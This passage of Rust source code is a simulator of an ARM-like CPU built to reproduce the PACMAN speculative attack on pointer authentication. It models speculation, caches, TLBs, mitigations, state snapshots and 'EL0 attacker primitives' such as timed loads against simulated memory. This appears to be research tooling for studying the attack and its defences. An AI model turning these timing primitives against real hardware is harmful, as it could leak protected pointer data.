            let pa = entry.pfn * PAGE_SIZE + v.page_offset();
            if !self.l1d.contains(pa) {
                return SpecAccess::Blocked;
            }
            let (cache, cycles) = self.cache_data(pa);
            return SpecAccess::Ok(AccessOutcome { cycles, tlb: TlbHit::L1, cache }, pa);
        }
        match self.data_access(va, el, access) {
            Ok((outcome, pa)) => SpecAccess::Ok(outcome, pa),
            Err(_) => SpecAccess::Fault,
        }
    }

    /// Speculative instruction fetch (the transmit step of the instruction
    /// PACMAN gadget when it targets the verified pointer).
    fn spec_fetch(&mut self, va: u64, el: El, mit: Mitigation) -> SpecAccess {
        if mit == Mitigation::DelayOnMiss {
            if !ptr::is_canonical(va) {
                return SpecAccess::Fault;
            }
            let v = VirtualAddress::new(va);
            if !self.tlbs.itlb(Self::world(el)).contains(v.vpn()) {
                return SpecAccess::Blocked;
            }
        }
        match self.fetch_access(va, el) {
            Ok((outcome, pa)) => SpecAccess::Ok(outcome, pa),
            Err(_) => SpecAccess::Fault,
        }
    }

    /// Debug read (no microarchitectural side effects): translates through
    /// the page tables directly.
    pub fn debug_read_u64(&self, va: u64) -> Option<u64> {
        let pa = self.tables.translate(&self.phys, VirtualAddress::new(va))?;
        Some(self.phys.read_u64(pa))
    }

    /// Debug write (no microarchitectural side effects).
    pub fn debug_write_u64(&mut self, va: u64, value: u64) -> bool {
        match self.tables.translate(&self.phys, VirtualAddress::new(va)) {
            Some(pa) => {
                self.phys.write_u64(pa, value);
                true
            }
            None => false,
        }
    }

    /// Debug byte-slice write, page-crossing safe.
    pub fn debug_write_bytes(&mut self, va: u64, bytes: &[u8]) -> bool {
        for (i, &b) in bytes.iter().enumerate() {
            match self.tables.translate(&self.phys, VirtualAddress::new(va + i as u64)) {
                Some(pa) => self.phys.write_u8(pa, b),
                None => return false,
            }
        }
        true
    }

    /// Debug byte read.
    pub fn debug_read_u8(&self, va: u64) -> Option<u8> {
        let pa = self.tables.translate(&self.phys, VirtualAddress::new(va))?;
        Some(self.phys.read_u8(pa))
    }
}

/// Why [`Machine::run`] stopped.
#[derive(Copy, Clone, Eq, PartialEq, Hash, Debug)]
pub enum Stop {
    /// A `HLT` retired.
    Hlt,
    /// The instruction budget was exhausted.
    InstLimit,
}

/// Execution statistics.
#[derive(Copy, Clone, Eq, PartialEq, Hash, Debug, Default)]
pub struct MachineStats {
    /// Architecturally retired instructions.
    pub retired: u64,
    /// Speculation shadows opened.
    pub spec_episodes: u64,
    /// Wrong-path instructions executed.
    pub spec_insts: u64,
    /// Faults raised on a wrong path and suppressed by the squash.
    pub spec_faults_suppressed: u64,
    /// Eager nested-branch squashes performed.
    pub eager_squashes: u64,
    /// Accesses blocked by taint tracking.
    pub taint_blocked: u64,
    /// Accesses blocked by delay-on-miss.
    pub delay_blocked: u64,
    /// Implicit fences injected by [`Mitigation::FenceAfterAut`].
    pub fences_injected: u64,
    /// Syscall round trips.
    pub syscalls: u64,
    /// Timed accesses inflated by an injected timing-noise spike
    /// ([`crate::config::LatencyModel::fault_spike`]); nonzero only
    /// under fault injection, and only on attempts that are discarded
    /// and retried.
    pub fault_spikes: u64,
}

#[derive(Clone, Debug)]
struct Shadow {
    regs: [u64; 31],
    sp: u64,
    cmp: (i64, i64),
    taint: [bool; 31],
}

impl Shadow {
    fn from_cpu(cpu: &Cpu) -> Self {
        Self { regs: cpu.regs, sp: cpu.sp[cpu.el as usize], cmp: cpu.cmp, taint: [false; 31] }
    }

    fn get(&self, r: Reg) -> u64 {
        match r.index() {
            31 => self.sp,
            32 => 0,
            n => self.regs[n as usize],
        }
    }

    fn set(&mut self, r: Reg, v: u64) {
        match r.index() {
            31 => self.sp = v,
            32 => {}
            n => self.regs[n as usize] = v,
        }
    }

    fn tainted(&self, r: Reg) -> bool {
        match r.index() {
            31 | 32 => false,
            n => self.taint[n as usize],
        }
    }

    fn set_taint(&mut self, r: Reg, t: bool) {
        if let n @ 0..=30 = r.index() {
            self.taint[n as usize] = t;
        }
    }
}

/// The simulated machine.
#[derive(Debug)]
pub struct Machine {
    /// Architectural CPU state.
    pub cpu: Cpu,
    /// Memory system.
    pub mem: MemorySystem,
    /// Timer block.
    pub timers: Timers,
    /// Conditional branch predictor.
    pub bimodal: Bimodal,
    /// Branch target buffer.
    pub btb: Btb,
    /// Return stack buffer (predicts `ret` targets).
    pub rsb: Rsb,
    /// Counters.
    pub stats: MachineStats,
    /// Prediction-outcome counters (always on; plain adds).
    pub predict_stats: PredictStats,
    /// Wrong-path instructions per speculation shadow, log₂-bucketed.
    pub spec_depth: Histogram,
    /// Optional speculation-event recorder (Figure 3 timelines).
    pub trace: SpecTrace,
    /// Retire-loop self-profiler (per-opcode / hot-block / phase
    /// attribution). Enabled via `MachineConfig::profile`; off, it
    /// costs one predicted branch per retired instruction.
    pub profiler: Profiler,
    /// Global cycle count.
    pub cycles: u64,
    config: MachineConfig,
    /// Predecoded micro-op arena the [`ExecEngine::Cached`] dispatch path
    /// fetches from; unused (and empty) under `Interpreted`.
    block_cache: BlockCache,
    /// Memoised PAC computations keyed by (key value, canonical pointer,
    /// modifier). Keying on the key *value* makes invalidation on key
    /// writes unnecessary: a changed key never matches old entries. Only
    /// consulted under [`ExecEngine::Cached`].
    pac_memo: HashMap<(u128, u64, u64), u16, FxBuild>,
    pac_memo_hits: u64,
    pac_memo_misses: u64,
    /// One-entry front cache over the memo: PAC-heavy loops authenticate
    /// the same triple back to back, and this skips even the hash on
    /// those. Value-keyed like the memo, so it never needs flushing.
    pac_last: Option<((u128, u64, u64), u16)>,
    rng: SmallRng,
    timing_source: TimingSource,
    vbar: u64,
    /// A wrong-path fault latched for architectural delivery by the
    /// `commit_suppressed_faults` injected bug. Always `None` unless the
    /// conformance self-test armed that knob.
    pending_spec_fault: Option<Trap>,
}

impl Machine {
    /// Boots a machine with the given configuration. Memory starts empty;
    /// callers map pages and load programs before running.
    ///
    /// # Panics
    ///
    /// Panics when the configuration fails [`MachineConfig::validate`]
    /// (use [`Machine::try_new`] for a typed error instead).
    pub fn new(config: MachineConfig) -> Self {
        Self::new_with_pool(config, FramePool::default())
    }

    /// Boots a machine, reporting an invalid configuration as a typed
    /// [`ConfigError`] instead of panicking.
    ///
    /// # Errors
    ///
    /// Returns the first [`ConfigError`] found by
    /// [`MachineConfig::validate`].
    pub fn try_new(config: MachineConfig) -> Result<Self, ConfigError> {
        config.validate()?;
        Ok(Self::new_with_pool(config, FramePool::default()))
    }

    /// Boots a machine whose physical memory recycles frames from `pool`
    /// instead of allocating fresh ones. Recycled frames are zeroed and
    /// the frame allocator restarts from the same PFN, so the machine is
    /// bit-identical to one built by [`Machine::new`] — the pool only
    /// avoids host allocator traffic in trial loops.
    ///
    /// # Panics
    ///
    /// Panics when the configuration fails [`MachineConfig::validate`].
    pub fn new_with_pool(config: MachineConfig, pool: FramePool) -> Self {
        if let Err(e) = config.validate() {
            panic!("invalid machine configuration: {e}");
        }
        let mem = MemorySystem::new_with_pool(&config, pool);
        let timers = Timers::new(config.clock_hz, config.system_counter_hz);
        let rng = SmallRng::seed_from_u64(config.seed);
        Self {
            cpu: Cpu::new(),
            mem,
            timers,
            bimodal: Bimodal::new(),
            btb: Btb::new(),
            rsb: Rsb::default(),
            stats: MachineStats::default(),
            predict_stats: PredictStats::default(),
            spec_depth: Histogram::new(),
            trace: SpecTrace::default(),
            profiler: Profiler::new(config.profile),
            cycles: 0,
            config,
            block_cache: BlockCache::new(),
            pac_memo: HashMap::default(),
            pac_memo_hits: 0,
            pac_memo_misses: 0,
            pac_last: None,
            rng,
            timing_source: TimingSource::default(),
            vbar: 0,
            pending_spec_fault: None,
        }
    }

    /// Rebuilds this machine from scratch with its current configuration,
    /// recycling the physical frames already allocated. Equivalent to
    /// `*self = Machine::new(self.config().clone())` but without
    /// returning frame storage to the host allocator.
    pub fn reset(&mut self) {
        let config = self.config.clone();
        self.reset_with(config);
    }

    /// [`Machine::reset`] with a (possibly different) configuration.
    ///
    /// # Panics
    ///
    /// Panics when `config` fails [`MachineConfig::validate`].
    pub fn reset_with(&mut self, config: MachineConfig) {
        let pool = self.mem.phys.take_frame_pool();
        *self = Machine::new_with_pool(config, pool);
    }

    /// The active configuration.
    pub fn config(&self) -> &MachineConfig {
        &self.config
    }

    /// Installs the syscall entry point (the kernel's exception vector).
    pub fn set_vbar(&mut self, va: u64) {
        self.vbar = va;
    }

    /// Selects the timer used by the timed-access helpers.
    pub fn set_timing_source(&mut self, source: TimingSource) {
        self.timing_source = source;
    }

    /// The selected timing source.
    pub fn timing_source(&self) -> TimingSource {
        self.timing_source
    }

    /// Runs `f` with speculation tracing enabled and returns its result
    /// together with the events recorded during the call. Any prior trace
    /// state (enabled flag and buffered events) is saved first and
    /// restored afterwards, so this composes with manual
    /// [`SpecTrace::enable`]/[`SpecTrace::take`] use.
    pub fn with_trace<R>(&mut self, f: impl FnOnce(&mut Self) -> R) -> (R, Vec<SpecEvent>) {
        let saved = std::mem::take(&mut self.trace);
        self.trace.enable();
        let result = f(self);
        let events = self.trace.take();
        self.trace = saved;
        (result, events)
    }

    /// Exports every microarchitectural counter into `reg` under the
    /// canonical `tlb.*` / `cache.*` / `predict.*` / `spec.*` /
    /// `mitigations.*` / `cpu.*` names.
    ///
    /// The exported values are *lifetime totals* added via
    /// [`Registry::incr_by`], so exporting the same machine twice double
    /// counts. Export once at the end of an experiment, or snapshot the
    /// registry around an interval and diff.
    pub fn export_telemetry(&self, reg: &mut Registry) {
        if !reg.is_enabled() {
            return;
        }
        let t = &self.mem.tlbs.stats;
        let p = &self.predict_stats;
        let s = &self.stats;
        let counters = [
            ("tlb.itlb.user.hits", t.itlb_user_hits),
            ("tlb.itlb.user.misses", t.itlb_user_misses),
            ("tlb.itlb.user.fills", t.itlb_user_fills),
            ("tlb.itlb.user.evictions", t.itlb_user_evictions),
            ("tlb.itlb.kernel.hits", t.itlb_kernel_hits),
            ("tlb.itlb.kernel.misses", t.itlb_kernel_misses),
            ("tlb.itlb.kernel.fills", t.itlb_kernel_fills),
            ("tlb.itlb.kernel.evictions", t.itlb_kernel_evictions),
            ("tlb.dtlb.hits", t.dtlb_hits),
            ("tlb.dtlb.misses", t.dtlb_misses),
            ("tlb.dtlb.fills", t.dtlb_fills),
            ("tlb.dtlb.evictions", t.dtlb_evictions),
            ("tlb.l2.hits", t.l2_hits),
            ("tlb.l2.misses", t.l2_misses),
            ("tlb.l2.fills", t.l2_fills),
            ("tlb.l2.evictions", t.l2_evictions),
            ("tlb.walks", t.walks),
            ("tlb.itlb_to_dtlb_migrations", t.itlb_to_dtlb_migrations),
            ("predict.bimodal.correct", p.bimodal_correct),
            ("predict.bimodal.mispredicts", p.bimodal_mispredicts),
            ("predict.btb.hits", p.btb_hits),
            ("predict.btb.misses", p.btb_misses),
            ("predict.btb.mispredicts", p.btb_mispredicts),
            ("predict.rsb.hits", p.rsb_hits),
            ("predict.rsb.underflows", p.rsb_underflows),
            ("predict.ret.mispredicts", p.ret_mispredicts),
            ("spec.episodes", s.spec_episodes),
            ("spec.insts", s.spec_insts),
            ("spec.faults_suppressed", s.spec_faults_suppressed),
            ("spec.eager_squashes", s.eager_squashes),
            ("mitigations.taint_blocked", s.taint_blocked),
            ("mitigations.delay_blocked", s.delay_blocked),
            ("mitigations.fences_injected", s.fences_injected),
            ("cpu.retired", s.retired),
            ("cpu.syscalls", s.syscalls),
            ("uarch.fault_spikes", s.fault_spikes),
            ("exec.block.hits", self.block_cache.stats.hits),
            ("exec.block.misses", self.block_cache.stats.misses),
            ("exec.block.decoded", self.block_cache.stats.decoded),
            ("exec.block.invalidations", self.block_cache.stats.invalidations),
            ("exec.block.bypasses", self.block_cache.stats.bypasses),
            ("exec.pac.memo_hits", self.pac_memo_hits),
            ("exec.pac.memo_misses", self.pac_memo_misses),
        ];
        for (name, value) in counters {
            reg.incr_by(name, value);
        }
        for (name, cache) in [
            ("cache.l1i", &self.mem.l1i),
            ("cache.l1d", &self.mem.l1d),
            ("cache.l2", &self.mem.l2c),
        ] {
            let c = cache.stats;
            reg.incr_by(&format!("{name}.hits"), c.hits);
            reg.incr_by(&format!("{name}.misses"), c.misses);
            reg.incr_by(&format!("{name}.fills"), c.fills);
            reg.incr_by(&format!("{name}.evictions"), c.evictions);
        }
        reg.gauge("cpu.cycles", i64::try_from(self.cycles).unwrap_or(i64::MAX));
        reg.merge_histogram("spec.depth", &self.spec_depth);
        self.profiler.export_into(reg);
    }

    /// The ten PAC key-half system registers, in snapshot order.
    const KEY_HALVES: [SysReg; 10] = [
        SysReg::ApiaKeyLo,
        SysReg::ApiaKeyHi,
        SysReg::ApibKeyLo,
        SysReg::ApibKeyHi,
        SysReg::ApdaKeyLo,
        SysReg::ApdaKeyHi,
        SysReg::ApdbKeyLo,
        SysReg::ApdbKeyHi,
        SysReg::ApgaKeyLo,
        SysReg::ApgaKeyHi,
    ];

    /// Serialises the full mutable machine state — architectural CPU
    /// state, physical memory, every microarchitectural structure, all
    /// counters, and the RNG position — so that a machine restored via
    /// [`Machine::restore_state`] onto an identically-configured fresh
    /// boot continues bit-identically to one that was never interrupted
    /// (telemetry export included). The configuration itself is *not*
    /// written; the caller owns it and must boot with the same one.
    ///
    /// Not captured, by design: the speculation trace and profiler
    /// (diagnostic recorders, off by default and simulation-invisible)
    /// and the TLB/fetch fast paths (restored cold; their contract makes
    /// them invisible too).
    ///
    /// # Panics
    ///
    /// Panics if a wrong-path fault is latched for architectural
    /// delivery (only possible under the `commit_suppressed_faults`
    /// injected bug) — such a machine is mid-misbehaviour and has no
    /// meaningful snapshot.
    pub fn save_state(&self, w: &mut pacman_telemetry::bin::Writer) {
        assert!(
            self.pending_spec_fault.is_none(),
            "cannot snapshot a machine with a latched wrong-path fault"
        );
        // Architectural CPU state.
        for &r in &self.cpu.regs {
            w.u64(r);
        }
        w.u64(self.cpu.sp[0]);
        w.u64(self.cpu.sp[1]);
        w.u64(self.cpu.pc);
        w.u8(match self.cpu.el {
            El::El0 => 0,
            El::El1 => 1,
        });
        w.i64(self.cpu.cmp.0);
        w.i64(self.cpu.cmp.1);
        for reg in Self::KEY_HALVES {
            w.u64(self.cpu.keys.read_half(reg).expect("key halves are always readable"));
        }
        match &self.cpu.saved {
            None => w.bool(false),
            Some(saved) => {
                w.bool(true);
                for &r in &saved.regs {
                    w.u64(r);
                }
                w.u64(saved.sp);
                w.u64(saved.pc);
            }
        }
        // Memory system (physical memory first: the block cache restore
        // re-decodes from it).
        self.mem.phys.save_state(w);
        self.mem.tables.save_state(w);
        self.mem.l1i.save_state(w);
        self.mem.l1d.save_state(w);
        self.mem.l2c.save_state(w);
        self.mem.tlbs.save_state(w);
        // Predictors and timers.
        self.bimodal.save_state(w);
        self.btb.save_state(w);
        self.rsb.save_state(w);
        self.timers.save_state(w);
        // Counters.
        let s = &self.stats;
        for v in [
            s.retired,
            s.spec_episodes,
            s.spec_insts,
            s.spec_faults_suppressed,
            s.eager_squashes,
            s.taint_blocked,
            s.delay_blocked,
            s.fences_injected,
            s.syscalls,
            s.fault_spikes,
        ] {
            w.u64(v);
        }
        let p = &self.predict_stats;
        for v in [
            p.bimodal_correct,
            p.bimodal_mispredicts,
            p.btb_hits,
            p.btb_misses,
            p.btb_mispredicts,
            p.rsb_hits,
            p.rsb_underflows,
            p.ret_mispredicts,
        ] {
            w.u64(v);
        }
        self.spec_depth.save_bin(w);
        w.u64(self.cycles);
        // Execution-engine accelerators.
        self.block_cache.save_state(w);
        let mut memo: Vec<(&(u128, u64, u64), &u16)> = self.pac_memo.iter().collect();
        memo.sort_unstable();
        w.usize(memo.len());
        for (&(key, pointer, modifier), &pac) in memo {
            w.u128(key);
            w.u64(pointer);
            w.u64(modifier);
            w.u16(pac);
        }
        w.u64(self.pac_memo_hits);
        w.u64(self.pac_memo_misses);
        match self.pac_last {
            None => w.bool(false),
            Some(((key, pointer, modifier), pac)) => {
                w.bool(true);
                w.u128(key);
                w.u64(pointer);
                w.u64(modifier);
                w.u16(pac);
            }
        }
        // Remaining machine-level state.
        for word in self.rng.state() {
            w.u64(word);
        }
        w.u8(match self.timing_source {
            TimingSource::Pmc0 => 0,
            TimingSource::MultiThread => 1,
            TimingSource::SystemCounter => 2,
        });
        w.u64(self.vbar);
    }

    /// Restores state written by [`Machine::save_state`] into a machine
    /// booted with the same configuration.
    ///
    /// # Errors
    ///
    /// [`pacman_telemetry::bin::BinError`] on a truncated, corrupt, or
    /// geometry-mismatched stream. The machine's state is then
    /// unspecified and the caller must discard it.
    pub fn restore_state(
        &mut self,
        r: &mut pacman_telemetry::bin::Reader<'_>,
    ) -> Result<(), pacman_telemetry::bin::BinError> {
        use pacman_telemetry::bin::BinError;
        for reg in &mut self.cpu.regs {
            *reg = r.u64()?;
        }
        self.cpu.sp[0] = r.u64()?;
        self.cpu.sp[1] = r.u64()?;
        self.cpu.pc = r.u64()?;
        self.cpu.el = match r.u8()? {
            0 => El::El0,
            1 => El::El1,
            other => return Err(BinError::Corrupt(format!("exception level {other}"))),
        };
        self.cpu.cmp = (r.i64()?, r.i64()?);
        for reg in Self::KEY_HALVES {
            let half = r.u64()?;
            if !self.cpu.keys.write_half(reg, half) {
                return Err(BinError::Corrupt(format!("unwritable key half {reg:?}")));
            }
        }
        self.cpu.saved = if r.bool()? {
            let mut regs = [0u64; 31];
            for reg in &mut regs {
                *reg = r.u64()?;
            }
            Some(SavedContext { regs, sp: r.u64()?, pc: r.u64()? })
        } else {
            None
        };
        self.mem.phys.restore_state(r)?;
        self.mem.tables.restore_state(r)?;
        self.mem.l1i.restore_state(r)?;
        self.mem.l1d.restore_state(r)?;
        self.mem.l2c.restore_state(r)?;
        self.mem.tlbs.restore_state(r)?;
        self.bimodal.restore_state(r)?;
        self.btb.restore_state(r)?;
        self.rsb.restore_state(r)?;
        self.timers.restore_state(r)?;
        let s = &mut self.stats;
        for v in [
            &mut s.retired,
            &mut s.spec_episodes,
            &mut s.spec_insts,
            &mut s.spec_faults_suppressed,
            &mut s.eager_squashes,
            &mut s.taint_blocked,
            &mut s.delay_blocked,
            &mut s.fences_injected,
            &mut s.syscalls,
            &mut s.fault_spikes,
        ] {
            *v = r.u64()?;
        }
        let p = &mut self.predict_stats;
        for v in [
            &mut p.bimodal_correct,
            &mut p.bimodal_mispredicts,
            &mut p.btb_hits,
            &mut p.btb_misses,
            &mut p.btb_mispredicts,
            &mut p.rsb_hits,
            &mut p.rsb_underflows,
            &mut p.ret_mispredicts,
        ] {
            *v = r.u64()?;
        }
        self.spec_depth = Histogram::load_bin(r)?;
        self.cycles = r.u64()?;
        self.block_cache.restore_state(r, &self.mem.phys)?;
        self.pac_memo.clear();
        for _ in 0..r.usize()? {
            let triple = (r.u128()?, r.u64()?, r.u64()?);
            let pac = r.u16()?;
            self.pac_memo.insert(triple, pac);
        }
        self.pac_memo_hits = r.u64()?;
        self.pac_memo_misses = r.u64()?;
        self.pac_last =
            if r.bool()? { Some(((r.u128()?, r.u64()?, r.u64()?), r.u16()?)) } else { None };
        let mut rng_state = [0u64; 4];
        for word in &mut rng_state {
            *word = r.u64()?;
        }
        self.rng = SmallRng::from_state(rng_state);
        self.timing_source = match r.u8()? {
            0 => TimingSource::Pmc0,
            1 => TimingSource::MultiThread,
            2 => TimingSource::SystemCounter,
            other => return Err(BinError::Corrupt(format!("timing source {other}"))),
        };
        self.vbar = r.u64()?;
        self.pending_spec_fault = None;
        Ok(())
    }

    /// Maps a fresh zeroed page at `va` (page-aligned) and returns its
    /// physical frame number.
    pub fn map_page(&mut self, va: u64, perms: Perms) -> u64 {
        self.mem.tables.map_fresh(&mut self.mem.phys, VirtualAddress::new(va), perms)
    }

    /// Maps `va` to an *existing* physical frame (aliasing). Large
    /// eviction regions alias one frame: the TLB experiments only care
    /// about translations, not contents, and this keeps host memory flat.
    pub fn map_alias(&mut self, va: u64, pfn: u64, perms: Perms) {
        self.mem.tables.map(&mut self.mem.phys, VirtualAddress::new(va), pfn, perms);
    }

    /// Allocates one physical frame without mapping it (pair with
    /// [`Machine::map_alias`]).
    pub fn alloc_frame(&mut self) -> u64 {
        self.mem.phys.alloc_frame()
    }

    /// Maps `len` bytes starting at page-aligned `va`. Regions touching
    /// the top of the address space are clamped there rather than
    /// wrapping (`va + len` would overflow for the last page).
    pub fn map_region(&mut self, va: u64, len: u64, perms: Perms) {
        let mut a = va & !(PAGE_SIZE - 1);
        let end = va.saturating_add(len);
        while a < end {
            self.map_page(a, perms);
            match a.checked_add(PAGE_SIZE) {
                Some(next) => a = next,
                None => break,
            }
        }
    }

    /// Encodes and writes a program at `va` (must be mapped and writable
    /// via the debug path). Returns the VA one past the last instruction.
    ///
    /// # Panics
    ///
    /// Panics if an instruction does not encode or the region is unmapped —
    /// both are setup bugs, not runtime conditions.
    pub fn load_program(&mut self, va: u64, program: &[Inst]) -> u64 {
        for (i, inst) in program.iter().enumerate() {
            let w = encode(inst).expect("program instruction must encode");
            let addr = va.wrapping_add(4 * i as u64);
            let pa = self
                .mem
                .tables
                .translate(&self.mem.phys, VirtualAddress::new(addr))
                .expect("program region must be mapped");
            self.mem.phys.write_u32(pa, w);
        }
        va.wrapping_add(4 * program.len() as u64)
    }

    /// Reads the active timing source. Returns `None` if the source traps
    /// at the current EL (e.g. `PMC0` at EL0 without the kext, Table 1).
    pub fn read_timer(&mut self) -> Option<u64> {
        let at_el0 = self.cpu.el == El::El0;
        self.timers.read(self.timing_source, self.cycles, at_el0, &mut self.rng)
    }

    fn noise(&mut self) -> u64 {
        let n = self.config.latency.noise;
        if n == 0 {
            0
        } else {
            self.rng.gen_range(0..=n)
        }
    }

    // ----- EL0 attacker primitives ------------------------------------

    /// An untimed user-mode load of `va` (microarchitecturally visible).
    ///
    /// # Errors
    ///
    /// Returns the architectural [`Trap`] for unmapped or forbidden
    /// addresses.
    pub fn user_load(&mut self, va: u64) -> Result<AccessOutcome, Trap> {
        let (outcome, _pa) = self
            .mem
            .data_access(va, El::El0, AccessKind::Load)
            .map_err(|f| f.into_trap(va, El::El0, AccessKind::Load))?;
        self.cycles += outcome.cycles;
        Ok(outcome)
    }

    /// A user-mode store.
    ///
    /// # Errors
    ///
    /// Returns the architectural [`Trap`] for unmapped or forbidden
    /// addresses.
    pub fn user_store(&mut self, va: u64, value: u64) -> Result<AccessOutcome, Trap> {
        let (outcome, pa) = self
            .mem
            .data_access(va, El::El0, AccessKind::Store)
            .map_err(|f| f.into_trap(va, El::El0, AccessKind::Store))?;
        self.cycles += outcome.cycles;
        self.mem.phys.write_u64(pa, value);
        Ok(outcome)
    }

    /// A user-mode instruction fetch of `va` — the effect of branching
    /// into the paper's JIT region (§7.3 step 2/3).
    ///
    /// # Errors
    ///
    /// Returns the architectural [`Trap`] for unmapped or non-executable
    /// addresses.
    pub fn user_fetch(&mut self, va: u64) -> Result<AccessOutcome, Trap> {
        let (outcome, _pa) = self
            .mem
            .fetch_access(va, El::El0)
            .map_err(|f| f.into_trap(va, El::El0, AccessKind::Fetch))?;
        self.cycles += outcome.cycles;
        Ok(outcome)
    }

    /// A timed user-mode load: the `isb; read; load; isb; read` bracket of
    /// Figure 4(b), returning the latency in ticks of the active timing
    /// source.
    ///
    /// # Errors
    ///
    /// [`Trap`] as for [`Machine::user_load`]; also
    /// [`Trap::SysRegAccess`] if the timing source is not readable at EL0.
    pub fn timed_user_load(&mut self, va: u64) -> Result<u64, Trap> {
        let source = self.timing_source;
        let t1 =
            self.read_timer().ok_or(Trap::SysRegAccess { reg: source_reg(source), el: El::El0 })?;
        self.cycles += self.config.latency.measure_overhead;
        self.cycles += self.noise();
        if self.config.latency.fault_spike > 0 {
            self.cycles += self.config.latency.fault_spike;
            self.stats.fault_spikes += 1;
        }
        self.user_load(va)?;
        let t2 =
            self.read_timer().ok_or(Trap::SysRegAccess { reg: source_reg(source), el: El::El0 })?;
        Ok(t2 - t1)
    }

    // ----- execution ---------------------------------------------------

    /// Runs from the current PC until `HLT`, a trap, or `max_insts`.
    ///
    /// # Errors
    ///
    /// Returns the first architectural [`Trap`]. A trap while at EL1 is a
    /// kernel panic; the kernel crate turns it into a reboot.
    pub fn run(&mut self, max_insts: u64) -> Result<Stop, Trap> {
        for _ in 0..max_insts {
            if let Some(stop) = self.step()? {
                return Ok(stop);
            }
        }
        Ok(Stop::InstLimit)
    }

    /// Fetches, decodes and retires exactly one instruction — the retire
    /// boundary the differential conformance harness (`pacman-ref`)
    /// compares committed state at.
    ///
    /// # Errors
    ///
    /// Returns the architectural [`Trap`] raised by this instruction.
    pub fn step(&mut self) -> Result<Option<Stop>, Trap> {
        if let Some(trap) = self.pending_spec_fault.take() {
            // Only reachable under the `commit_suppressed_faults`
            // injected bug: the wrong-path fault the squash should have
            // discarded is delivered architecturally instead.
            return Err(trap);
        }
        let pc = self.cpu.pc;
        let el = self.cpu.el;
        let profiling = self.profiler.is_enabled();
        let step_start = self.cycles;
        let decode_timer = ProfTimer::start(profiling);
        let (fetch_outcome, pa) =
            self.mem.fetch_access(pc, el).map_err(|f| f.into_trap(pc, el, AccessKind::Fetch))?;
        self.cycles += fetch_outcome.cycles;
        // The engines are bit-identical: the cached path only skips the
        // re-read + re-decode of the fetched word, never any simulated
        // cost (timing was already charged by `fetch_access` above).
        let inst = match self.config.engine {
            ExecEngine::Cached => {
                self.block_cache.fetch(pa, &mut self.mem.phys).ok_or(Trap::Decode { pc })?
            }
            ExecEngine::Interpreted => {
                decode(self.mem.phys.read_u32(pa)).map_err(|_| Trap::Decode { pc })?
            }
        };
        self.cycles += self.config.latency.alu;
        self.stats.retired += 1;
        if !profiling {
            return self.exec(pc, el, inst);
        }
        self.profiler.record_decode(self.cycles - step_start, decode_timer.elapsed_ns());
        let exec_start = self.cycles;
        let exec_timer = ProfTimer::start(true);
        let out = self.exec(pc, el, inst);
        self.profiler.record_retire(
            &inst,
            pc,
            self.cycles - step_start,
            self.cycles - exec_start,
            exec_timer.elapsed_ns(),
        );
        out
    }

    fn exec(&mut self, pc: u64, el: El, inst: Inst) -> Result<Option<Stop>, Trap> {
        let next = pc.wrapping_add(4);
        match inst {
            Inst::Nop => self.cpu.pc = next,
            Inst::Isb | Inst::Dsb => {
                self.cycles += self.config.latency.fence;
                self.cpu.pc = next;
            }
            Inst::Hlt => return Ok(Some(Stop::Hlt)),
            Inst::Svc { .. } => {
                if el != El::El0 || self.vbar == 0 {
                    return Err(Trap::BadSvc { pc });
                }
                self.stats.syscalls += 1;
                self.cycles += self.config.latency.syscall_transition;
                self.os_noise_tick();
                self.cpu.saved = Some(SavedContext {
                    regs: self.cpu.regs,
                    sp: self.cpu.sp[El::El0 as usize],
                    pc: next,
                });
                self.cpu.el = El::El1;
                self.cpu.pc = self.vbar;
            }
            Inst::Eret => {
                if el != El::El1 {
                    return Err(Trap::BadEret { pc });
                }
                let saved = self.cpu.saved.take().ok_or(Trap::BadEret { pc })?;
                self.cycles += self.config.latency.syscall_transition;
                // Return values in x0/x1 survive the context restore, as on
                // a real syscall ABI.
                let (x0, x1) = (self.cpu.regs[0], self.cpu.regs[1]);
                self.cpu.regs = saved.regs;
                self.cpu.regs[0] = x0;
                self.cpu.regs[1] = x1;
                self.cpu.sp[El::El0 as usize] = saved.sp;
                self.cpu.el = El::El0;
                self.cpu.pc = saved.pc;
            }
            Inst::MovZ { rd, imm, shift } => {
                self.cpu.set(rd, u64::from(imm) << (16 * u32::from(shift)));
                self.cpu.pc = next;
            }
            Inst::MovK { rd, imm, shift } => {
                let sh = 16 * u32::from(shift);
                let old = self.cpu.get(rd);
                self.cpu.set(rd, (old & !(0xFFFFu64 << sh)) | (u64::from(imm) << sh));
                self.cpu.pc = next;
            }
            Inst::MovN { rd, imm, shift } => {
                self.cpu.set(rd, !(u64::from(imm) << (16 * u32::from(shift))));
                self.cpu.pc = next;
            }
            Inst::MovReg { rd, rn } => {
                let v = self.cpu.get(rn);
                self.cpu.set(rd, v);
                self.cpu.pc = next;
            }
            Inst::Csel { rd, rn, rm, cond } => {
                let v = if cond.holds(self.cpu.cmp.0, self.cpu.cmp.1) {
                    self.cpu.get(rn)
                } else {
                    self.cpu.get(rm)
                };
                self.cpu.set(rd, v);
                self.cpu.pc = next;
            }
            Inst::AddImm { rd, rn, imm } => {
                let v = self.cpu.get(rn).wrapping_add(u64::from(imm));
                self.cpu.set(rd, v);
                self.cpu.pc = next;
            }
            Inst::SubImm { rd, rn, imm } => {
                let v = self.cpu.get(rn).wrapping_sub(u64::from(imm));
                self.cpu.set(rd, v);
                self.cpu.pc = next;
            }
            Inst::AddReg { rd, rn, rm } => {
                let v = self.cpu.get(rn).wrapping_add(self.cpu.get(rm));
                self.cpu.set(rd, v);
                self.cpu.pc = next;
            }
            Inst::SubReg { rd, rn, rm } => {
                let v = self.cpu.get(rn).wrapping_sub(self.cpu.get(rm));
                self.cpu.set(rd, v);
                self.cpu.pc = next;
            }
            Inst::AndReg { rd, rn, rm } => {
                let v = self.cpu.get(rn) & self.cpu.get(rm);
                self.cpu.set(rd, v);
                self.cpu.pc = next;
            }
            Inst::OrrReg { rd, rn, rm } => {
                let v = self.cpu.get(rn) | self.cpu.get(rm);
                self.cpu.set(rd, v);
                self.cpu.pc = next;
            }
            Inst::EorReg { rd, rn, rm } => {
                let v = self.cpu.get(rn) ^ self.cpu.get(rm);
                self.cpu.set(rd, v);
                self.cpu.pc = next;
            }
            Inst::LslImm { rd, rn, shift } => {
                let v = self.cpu.get(rn) << shift;
                self.cpu.set(rd, v);
                self.cpu.pc = next;
            }
            Inst::LsrImm { rd, rn, shift } => {
                let v = self.cpu.get(rn) >> shift;
                self.cpu.set(rd, v);
                self.cpu.pc = next;
            }
            Inst::Mul { rd, rn, rm } => {
